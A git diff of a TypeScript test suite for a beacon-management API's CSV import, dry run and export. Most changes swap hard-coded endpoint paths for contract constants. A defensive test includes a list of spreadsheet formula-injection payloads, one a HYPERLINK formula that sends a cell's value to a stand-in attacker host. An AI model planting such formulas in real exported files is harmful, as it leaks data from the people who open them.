@@ -5,6 +5,7 @@ import { readTable } from '../../../../server/src/transfer/table.js';
 import type { App } from '../../../../server/src/types.js';
 import { CONSOLE_HEADERS, DEMO, buildTestApp, call, login, post, type Envelope } from '../../helpers.js';
 import { demoBuildings } from './poiFixtures.js';
+import { beaconApi } from '#contract/endpoints/beacon.js';
 
 /** Issue 13: beacons as tables — an upload (CSV or XLSX) checked by a dry run, then imported all or nothing; the CSV export keeps ids as text. */
 
@@ -19,7 +20,7 @@ beforeAll(async () => {
   for (const [key, email] of Object.entries(DEMO)) cookies[key] = await login(app, email);
   cookies.analyst = await login(app, 'analyst@demo.local');
   ids = await demoBuildings(app.db);
-  const first = (await call<BeaconPage>(app, `/api/location/beacon/page?buildingId=${ids.mall}&size=50`, cookies.company)).body.data!.records;
+  const first = (await call<BeaconPage>(app, `${beaconApi.page.path}?buildingId=${ids.mall}&size=50`, cookies.company)).body.data!.records;
   const anchor = first.find((b) => b.levelName === '1F')!;
   inside = { lng: anchor.lng, lat: anchor.lat, level: '1F' };
 });
@@ -47,19 +48,19 @@ const csv = (...rows: string[]) => Buffer.from(`${HEADER}\n${rows.join('\n')}\n`
 async function upload(body: Buffer | object, query: string, who = 'company', contentType = 'text/csv') {
   const res = await app.inject({
     method: 'POST',
-    url: `/api/location/beacon/upload?${query}`,
+    url: `${beaconApi.import.path}?${query}`,
     payload: body as Buffer,
     headers: { ...CONSOLE_HEADERS, 'content-type': contentType, cookie: cookies[who]! },
   });
   return { status: res.statusCode, body: res.json<Envelope<BeaconImportReport>>() };
 }
 const count = async (buildingId: number) =>
-  (await call<BeaconPage>(app, `/api/location/beacon/page?buildingId=${buildingId}&size=1`, cookies.company)).body.data!.total;
+  (await call<BeaconPage>(app, `${beaconApi.page.path}?buildingId=${buildingId}&size=1`, cookies.company)).body.data!.total;
 
 describe('issue 13: the dry run reports every row it would refuse and why, and writes nothing', () => {
   it('issue 13: unknown level, duplicate identity in the file and in the building, position outside the level, bad numbers — each by row and column', async () => {
     const before = await count(ids.mall);
-    const taken = (await call<BeaconPage>(app, `/api/location/beacon/page?buildingId=${ids.mall}&size=1`, cookies.company)).body.data!.records[0]!;
+    const taken = (await call<BeaconPage>(app, `${beaconApi.page.path}?buildingId=${ids.mall}&size=1`, cookies.company)).body.data!.records[0]!;
     const file = csv(
       row(40001),
       row(40002, { level: '99F' }),
@@ -122,13 +123,13 @@ describe('issue 13: the import takes all of it or nothing', () => {
 
   it('issue 13: a clean CSV is imported whole, normalised as by hand (UUID lower case, MAC upper case with colons)', async () => {
     const before = await count(ids.office);
-    const office = (await call<BeaconPage>(app, `/api/location/beacon/page?buildingId=${ids.office}&size=1`, cookies.company)).body.data!.records[0]!;
+    const office = (await call<BeaconPage>(app, `${beaconApi.page.path}?buildingId=${ids.office}&size=1`, cookies.company)).body.data!.records[0]!;
     const at = { level: office.levelName, lng: office.lng, lat: office.lat };
     const res = await upload(csv(row(42001, { ...at, mac: 'aa-bb-cc-dd-ee-01' }), row(42002, at)), `buildingId=${ids.office}&dryRun=false`);
     expect(res.status).toBe(200);
     expect(res.body.data).toMatchObject({ dryRun: false, rows: 2, valid: 2, imported: 2, problems: [] });
     expect(await count(ids.office)).toBe(before + 2);
-    const added = (await call<BeaconPage>(app, `/api/location/beacon/page?buildingId=${ids.office}&q=42001`, cookies.company)).body.data!.records[0]!;
+    const added = (await call<BeaconPage>(app, `${beaconApi.page.path}?buildingId=${ids.office}&q=42001`, cookies.company)).body.data!.records[0]!;
     expect(added).toMatchObject({
       uuid: 'e2c56db5-dffb-48d2-b060-d0f5a71096e0',
       mac: 'AA:BB:CC:DD:EE:01',
@@ -153,7 +154,7 @@ describe('issue 13: the CSV export', () => {
   it('issue 13: keeps ids and UUIDs as written, and reads back as a table of the same beacons', async () => {
     const res = await app.inject({
       method: 'GET',
-      url: `/api/location/beacon/export?buildingId=${ids.mall}`,
+      url: `${beaconApi.exportCsv.path}?buildingId=${ids.mall}`,
       headers: { ...CONSOLE_HEADERS, cookie: cookies.company! },
     });
     expect(res.statusCode).toBe(200);
@@ -174,7 +175,7 @@ describe('issue 13: the CSV export', () => {
   it('issue 13: an export uploaded again is refused row by row: every identity is taken in the building', async () => {
     const res = await app.inject({
       method: 'GET',
-      url: `/api/location/beacon/export?buildingId=${ids.mall}`,
+      url: `${beaconApi.exportCsv.path}?buildingId=${ids.mall}`,
       headers: { ...CONSOLE_HEADERS, cookie: cookies.company! },
     });
     const report = (await upload(Buffer.from(res.body), `buildingId=${ids.mall}`)).body.data!;
@@ -184,7 +185,7 @@ describe('issue 13: the CSV export', () => {
 
   it('issue 13: another company’s building is 10004 for both; the analyst (no UPLOAD_BEACON) may not upload (10003)', async () => {
     expect((await upload(csv(row(44001)), `buildingId=${ids.tower}`)).body.code).toBe(10004);
-    expect((await call(app, `/api/location/beacon/export?buildingId=${ids.tower}`, cookies.company)).body.code).toBe(10004);
+    expect((await call(app, `${beaconApi.exportCsv.path}?buildingId=${ids.tower}`, cookies.company)).body.code).toBe(10004);
     expect((await upload(csv(row(44002)), `buildingId=${ids.mall}`, 'analyst')).body.code).toBe(10003);
   });
 });
@@ -194,7 +195,7 @@ describe('issue 31 §2: formula cells in the beacon CSV', () => {
   const NAMES = ['=HYPERLINK("http://attacker.example/?x="&B2,"详情")', '+1+1', '-1+1', '@SUM(A1)', "'=1+1"];
   const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;
   const exported = async () =>
-    (await app.inject({ method: 'GET', url: `/api/location/beacon/export?buildingId=${ids.mall}`, headers: { ...CONSOLE_HEADERS, cookie: cookies.company! } }))
+    (await app.inject({ method: 'GET', url: `${beaconApi.exportCsv.path}?buildingId=${ids.mall}`, headers: { ...CONSOLE_HEADERS, cookie: cookies.company! } }))
       .body;
 
   it('issue 31 §2: the export writes no live formula, and export -> import gives back exactly the names entered', async () => {
@@ -211,13 +212,13 @@ describe('issue 31 §2: formula cells in the beacon CSV', () => {
     expect(mine.map((cells) => cells[6])).toEqual(NAMES.map((name) => `'${name}`));
 
     // Delete them, upload the export's lines of those beacons as they are, and read the names back.
-    const page = (await call<BeaconPage>(app, `/api/location/beacon/page?buildingId=${ids.mall}&size=200&sort=minor&order=desc`, cookies.company)).body.data!;
+    const page = (await call<BeaconPage>(app, `${beaconApi.page.path}?buildingId=${ids.mall}&size=200&sort=minor&order=desc`, cookies.company)).body.data!;
     const created = page.records.filter((b) => minors.includes(b.minor));
-    await post(app, '/api/location/beacon/delete', { ids: created.map((b) => b.id) }, cookies.company);
+    await post(app, beaconApi.delete.path, { ids: created.map((b) => b.id) }, cookies.company);
     const lines = csvText.split('\r\n');
     const again = [lines[0], ...lines.filter((line) => minors.some((minor) => line.includes(`,${minor},`)))].join('\r\n');
     expect((await upload(Buffer.from(again), `buildingId=${ids.mall}&dryRun=false`)).body.data).toMatchObject({ imported: NAMES.length });
-    const back = (await call<BeaconPage>(app, `/api/location/beacon/page?buildingId=${ids.mall}&size=200&sort=minor&order=desc`, cookies.company)).body.data!;
+    const back = (await call<BeaconPage>(app, `${beaconApi.page.path}?buildingId=${ids.mall}&size=200&sort=minor&order=desc`, cookies.company)).body.data!;
     expect(
       back.records
         .filter((b) => minors.includes(b.minor))
